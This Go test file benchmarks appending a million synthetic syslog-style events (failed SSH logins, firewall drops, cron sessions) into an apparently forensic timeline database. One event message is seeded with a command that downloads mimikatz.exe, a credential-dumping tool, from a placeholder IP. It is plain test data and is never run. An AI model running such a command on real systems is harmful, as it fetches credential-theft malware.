package events

import (
	"fmt"
	"math/rand/v2"
	"testing"
	"time"

	"firebreak/timeline"
)

const million = 1_000_000

// simpleEvents are like the lines of syslog files: sorted within an exhibit of
// 250,000 events, four exhibits that overlap in time.
func simpleEvents(n int) []timeline.Event {
	r := rand.New(rand.NewPCG(1, 2))
	events := make([]timeline.Event, n)
	for i := range events {
		exhibit := i / 250_000
		user, message := "", fmt.Sprintf("pam_unix(cron:session): session opened for user www-data(uid=33) by (uid=%d)", r.IntN(1000))
		switch r.IntN(4) {
		case 0:
			user = []string{"root", "admin", "alice", "bob"}[r.IntN(4)]
			message = fmt.Sprintf("Failed password for %s from 203.0.%d.%d port %d ssh2", user, r.IntN(256), r.IntN(256), r.IntN(65536))
		case 1:
			message = fmt.Sprintf("kernel: [%d.%06d] nf_conntrack: table full, dropping packet from 198.51.100.%d", i, r.IntN(1e6), r.IntN(256))
		}
		events[i] = timeline.Event{
			ID:   timeline.EventID(fmt.Sprint("exhibit", exhibit), "syslog", int64(i%250_000)*130, 0),
			Time: day.Add(time.Duration(i%250_000) * 311 * time.Millisecond), Precision: timeline.Second, TimeKind: timeline.Logged,
			Source: "syslog", Parser: "syslog", Host: fmt.Sprint("web-", exhibit), User: user, Message: message,
			Attributes: timeline.AttributesOf(map[string]string{"program": "sshd", "pid": fmt.Sprint(r.IntN(32768))}),
			Exhibit:    fmt.Sprint("e", exhibit), Offset: int64(i%250_000) * 130,
		}
	}
	if n > 700_000 {
		events[700_000].Message = "wget http://198.51.100.9/mimikatz.exe"
	}
	return events
}

func fill(b *testing.B, db *DB, events []timeline.Event) {
	b.Helper()
	for len(events) > 0 {
		n := min(20_000, len(events))
		if _, err := db.Append(b.Context(), events[:n]); err != nil {
			b.Fatal(err)
		}
		events = events[n:]
	}
}

func BenchmarkAppend(b *testing.B) {
	events := simpleEvents(million)
	for b.Loop() {
		db := openTest(b)
		fill(b, db, events)
	}
	b.ReportMetric(float64(b.N)*million/b.Elapsed().Seconds(), "events/s")
}

func BenchmarkAppendAgain(b *testing.B) {
	events := simpleEvents(million)
	db := openTest(b)
	fill(b, db, events)
	for b.Loop() {
		fill(b, db, events)
	}
	b.ReportMetric(float64(b.N)*million/b.Elapsed().Seconds(), "events/s")
}
